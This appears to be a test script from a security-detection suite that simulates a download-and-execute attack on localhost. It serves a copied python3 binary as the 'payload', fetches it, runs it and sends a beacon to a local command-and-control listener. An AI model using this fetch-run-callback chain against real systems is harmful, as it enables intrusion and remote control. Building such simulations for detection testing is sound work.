source "$(dirname "$0")/../lib.sh"
mkdir -p "$WORK/srv"
cp /usr/bin/python3 "$WORK/srv/update"   # the payload the attacker serves: an ELF binary
web=$(serve_http "$WORK/srv")
c2=$(start_listener)
python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], sys.argv[2])' "http://127.0.0.1:$web/update" "$WORK/update"
chmod +x "$WORK/update"
"$WORK/update" -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(b"beacon\n")' "$c2"
mark_end
